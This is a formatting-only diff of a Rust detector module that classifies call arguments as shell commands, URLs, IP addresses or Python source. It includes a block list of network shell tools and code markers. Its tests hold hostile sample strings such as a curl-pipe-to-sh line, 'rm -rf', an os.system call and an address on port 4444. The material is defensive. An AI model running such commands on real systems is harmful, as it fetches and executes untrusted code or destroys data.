@@ -44,9 +44,46 @@ fn clip(s: &str) -> String {
 }
 
 const SHELL_TOOLS: &[&str] = &[
-    "sh", "bash", "zsh", "dash", "curl", "wget", "nc", "ncat", "netcat", "python", "python3", "perl", "ruby", "powershell", "pwsh",
-    "cmd", "cmd.exe", "rm", "chmod", "chown", "mkfifo", "base64", "whoami", "id", "uname", "cat", "echo", "touch", "scp", "ssh",
-    "telnet", "socat", "nohup", "crontab", "systemctl", "pip", "pip3", "apt-get", "true", "false",
+    "sh",
+    "bash",
+    "zsh",
+    "dash",
+    "curl",
+    "wget",
+    "nc",
+    "ncat",
+    "netcat",
+    "python",
+    "python3",
+    "perl",
+    "ruby",
+    "powershell",
+    "pwsh",
+    "cmd",
+    "cmd.exe",
+    "rm",
+    "chmod",
+    "chown",
+    "mkfifo",
+    "base64",
+    "whoami",
+    "id",
+    "uname",
+    "cat",
+    "echo",
+    "touch",
+    "scp",
+    "ssh",
+    "telnet",
+    "socat",
+    "nohup",
+    "crontab",
+    "systemctl",
+    "pip",
+    "pip3",
+    "apt-get",
+    "true",
+    "false",
 ];
 
 /// What a single string argument looks like.
@@ -56,21 +93,49 @@ pub fn classify_text(s: &str) -> Option<Signal> {
         return None;
     }
     let lower = t.to_ascii_lowercase();
-    const CODE_MARKERS: &[&str] = &["import ", "__import__", "exec(", "eval(", "os.system", "subprocess", "socket.", "lambda ", "def ", "compile(", "getattr(", "open("];
+    const CODE_MARKERS: &[&str] = &[
+        "import ",
+        "__import__",
+        "exec(",
+        "eval(",
+        "os.system",
+        "subprocess",
+        "socket.",
+        "lambda ",
+        "def ",
+        "compile(",
+        "getattr(",
+        "open(",
+    ];
     if CODE_MARKERS.iter().any(|m| lower.contains(m)) && (t.contains('(') || t.contains('\n')) {
         return Some(Signal::PythonSource(t.to_string()));
     }
-    if ["http://", "https://", "ftp://", "tcp://", "ws://", "wss://"].iter().any(|p| lower.contains(p)) {
+    if ["http://", "https://", "ftp://", "tcp://", "ws://", "wss://"]
+        .iter()
+        .any(|p| lower.contains(p))
+    {
         let has_shell = ["|", ";", "&&", "$(", "`"].iter().any(|m| t.contains(m));
-        return Some(if has_shell { Signal::ShellCommand(t.to_string()) } else { Signal::Url(t.to_string()) });
+        return Some(if has_shell {
+            Signal::ShellCommand(t.to_string())
+        } else {
+            Signal::Url(t.to_string())
+        });
     }
     let first_word = t.split_whitespace().next().unwrap_or_default();
     let tool = first_word.rsplit('/').next().unwrap_or(first_word);
-    let shell_syntax = ["|", ";", "&&", "||", "$(", "`", ">", "<"].iter().any(|m| t.contains(m));
+    let shell_syntax = ["|", ";", "&&", "||", "$(", "`", ">", "<"]
+        .iter()
+        .any(|m| t.contains(m));
     if SHELL_TOOLS.contains(&tool) && (t.contains(' ') || first_word.contains('/')) {
         return Some(Signal::ShellCommand(t.to_string()));
     }
-    if shell_syntax && t.contains(' ') && SHELL_TOOLS.iter().any(|tool| t.split(|c: char| !c.is_ascii_alphanumeric() && c != '-' && c != '.').any(|w| w == *tool)) {
+    if shell_syntax
+        && t.contains(' ')
+        && SHELL_TOOLS.iter().any(|tool| {
+            t.split(|c: char| !c.is_ascii_alphanumeric() && c != '-' && c != '.')
+                .any(|w| w == *tool)
+        })
+    {
         return Some(Signal::ShellCommand(t.to_string()));
     }
     if is_ipv4(t) {
@@ -80,9 +145,15 @@ pub fn classify_text(s: &str) -> Option<Signal> {
 }
 
 fn is_ipv4(s: &str) -> bool {
-    let host = s.rsplit_once(':').map(|(h, p)| if p.chars().all(|c| c.is_ascii_digit()) { h } else { s }).unwrap_or(s);
+    let host = s
+        .rsplit_once(':')
+        .map(|(h, p)| if p.chars().all(|c| c.is_ascii_digit()) { h } else { s })
+        .unwrap_or(s);
     let parts: Vec<&str> = host.split('.').collect();
-    parts.len() == 4 && parts.iter().all(|p| !p.is_empty() && p.len() <= 3 && p.parse::<u8>().is_ok())
+    parts.len() == 4
+        && parts
+            .iter()
+            .all(|p| !p.is_empty() && p.len() <= 3 && p.parse::<u8>().is_ok())
 }
 
 /// Every signal in a value (strings, and `(host, port)` tuples), depth-limited.
@@ -145,17 +216,25 @@ pub fn strongest(args: &Value<'_>) -> Option<Signal> {
 /// For callables that start processes, any first string argument is the command.
 pub fn enrich(finding: &mut Finding, kept: &KeptCall<'_, '_>) {
     let args = kept.call.effective_args.as_ref().unwrap_or(&kept.call.args);
-    let starts_process = matches!(kept.class, crate::kb::Class::Dangerous(d) if d.category.behaviour == "starts-process");
+    let starts_process =
+        matches!(kept.class, crate::kb::Class::Dangerous(d) if d.category.behaviour == "starts-process");
     let signal = strongest(args).or_else(|| {
         let first = args.items()?.into_iter().next()?;
         let command = match &first {
             Value::Str(s) => s.to_string(),
-            other => other.items()?.iter().map(|v| v.as_str().map(str::to_string)).collect::<Option<Vec<_>>>()?.join(" "),
+            other => other
+                .items()?
+                .iter()
+                .map(|v| v.as_str().map(str::to_string))
+                .collect::<Option<Vec<_>>>()?
+                .join(" "),
         };
         starts_process.then_some(Signal::ShellCommand(command))
     });
     if let Some(signal) = signal {
-        finding.message.push_str(&format!("; it would pass {}", signal.describe()));
+        finding
+            .message
+            .push_str(&format!("; it would pass {}", signal.describe()));
     }
 }
 
@@ -165,12 +244,18 @@ mod tests {
 
     #[test]
     fn recognises_shell_urls_addresses_and_code() {
-        assert!(matches!(classify_text("curl http://x/y | sh"), Some(Signal::ShellCommand(_))));
+        assert!(matches!(
+            classify_text("curl http://x/y | sh"),
+            Some(Signal::ShellCommand(_))
+        ));
         assert!(matches!(classify_text("rm -rf /tmp/x"), Some(Signal::ShellCommand(_))));
         assert_eq!(classify_text("true"), None);
         assert!(matches!(classify_text("https://example.com/a"), Some(Signal::Url(_))));
         assert!(matches!(classify_text("10.0.0.1:4444"), Some(Signal::Address(_))));
-        assert!(matches!(classify_text("import os; os.system('id')"), Some(Signal::PythonSource(_))));
+        assert!(matches!(
+            classify_text("import os; os.system('id')"),
+            Some(Signal::PythonSource(_))
+        ));
         assert_eq!(classify_text("weight"), None);
         assert_eq!(classify_text("cat"), None);
         assert_eq!(classify_text("layer.0.bias"), None);
